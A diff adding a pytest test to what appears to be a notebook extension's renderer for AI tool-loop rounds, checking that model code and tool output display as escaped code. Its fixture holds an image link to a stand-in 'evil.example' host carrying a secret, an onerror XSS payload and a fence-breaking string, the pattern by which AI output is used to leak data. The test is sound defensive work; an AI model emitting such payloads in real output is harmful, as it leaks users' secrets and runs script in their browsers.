@@ -125,3 +125,15 @@ def test_tool_output_cannot_close_the_fence_it_is_shown_in():
 
 def test_max_rounds_must_be_positive():
     with pytest.raises(ValueError): loop(scripted()[0], max_rounds=0)
+
+
+def test_model_code_shown_in_a_round_cannot_render_as_markdown():
+    from markdown_it import MarkdownIt
+    from boopiter_ext.render import loop_bundle, round_bundle
+    from boopiter_ext.toolloop import LoopResult, Step
+    step = Step(1, 'f("![x](http://evil.example/leak?k=SECRET)")\n\n<img src=x onerror=alert(1)>', 'unknown tool',
+                'error: ```\n![y](http://evil.example/2)')
+    html = MarkdownIt().render(round_bundle(1, [step])[0]['text/markdown'])
+    assert '<img' not in html and 'evil.example' in html   # shown as code, never fetched
+    html = MarkdownIt('commonmark', {'html': True}).render(loop_bundle(LoopResult('answered', [step], 1))[0]['text/markdown'])
+    assert '<img' not in html
